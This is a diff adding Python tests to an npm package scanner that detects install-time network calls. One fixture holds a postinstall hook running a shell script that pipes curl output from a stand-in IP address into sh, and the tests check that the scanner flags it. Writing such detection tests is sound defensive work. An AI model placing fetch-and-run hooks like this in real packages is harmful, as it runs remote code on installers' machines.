@@ -91,3 +91,43 @@ def test_a_fallback_is_not_a_pipe() -> None:
     found = script_findings(_artifact({"install": "node-gyp rebuild || exit 0",
                                        "postinstall": "node a.js | tee log.txt"}))
     assert {f.api: f.note for f in found} == {"scripts.install": "", "scripts.postinstall": "starts pipe"}
+
+
+def test_a_shell_script_run_by_a_hook_is_followed() -> None:
+    """`sh ./scripts/setup.sh`: its curl line is install-time network, and so is the node file it runs."""
+    from egress.engine import ScanOptions, scan
+    from egress.model import SourceFile
+
+    files = {
+        "scripts/setup.sh": b"#!/bin/sh\n# fetch the helper\nif command -v curl >/dev/null; then\n"
+                            b"  curl -fsSL \\\n    https://203.0.113.9/p.sh | sh\nfi\nnode ./lib/post.js\n",
+        "lib/post.js": b"require('https').get('https://example.com/ping');\n",
+        "index.js": b"module.exports = 1;\n",
+    }
+
+    def read(want):
+        return (SourceFile(path, data) for path, data in files.items() if want(path))
+
+    artifact = PackageArtifact(Ecosystem.NPM, "hooked", "1.0.0", read_files=read, metadata={
+        "kind": "tarball", "scripts": {"postinstall": "sh ./scripts/setup.sh"}, "script_lines": {"postinstall": 4}})
+    [result] = scan([artifact], ScanOptions(jobs=1)).packages
+    network = [(f.api, f.file, f.line, f.column, f.timing, f.note) for f in result.findings
+               if f.kind is FindingKind.NETWORK]
+    assert network == [
+        ("https.get", "lib/post.js", 1, 1, Timing.INSTALL, ""),
+        ("curl", "scripts/setup.sh", 4, 3, Timing.INSTALL, "postinstall script runs scripts/setup.sh, which runs curl"),
+    ]
+    curl = next(f for f in result.findings if f.api == "curl")
+    assert [(d.text, d.known) for d in curl.destinations] == [("https://203.0.113.9/p.sh", "full")]
+    types = sorted((a.type, a.severity.value, a.finding.file) for a in result.alerts)
+    assert ("installTimeNetwork", "high", "scripts/setup.sh") in types
+    assert ("installTimeNetwork", "high", "lib/post.js") in types
+    assert ("installScripts", "high", "package.json") in types
+
+
+def test_hook_scripts_are_only_package_shell_files() -> None:
+    from egress.install_scripts import hook_shell_scripts
+
+    assert hook_shell_scripts({"scripts": {
+        "preinstall": "bash -e ./a.sh && ./b.sh", "install": "sh -c 'echo hi'", "postinstall": "sh ../up.sh",
+        "test": "sh t.sh"}}) == {"a.sh": "preinstall", "b.sh": "preinstall"}
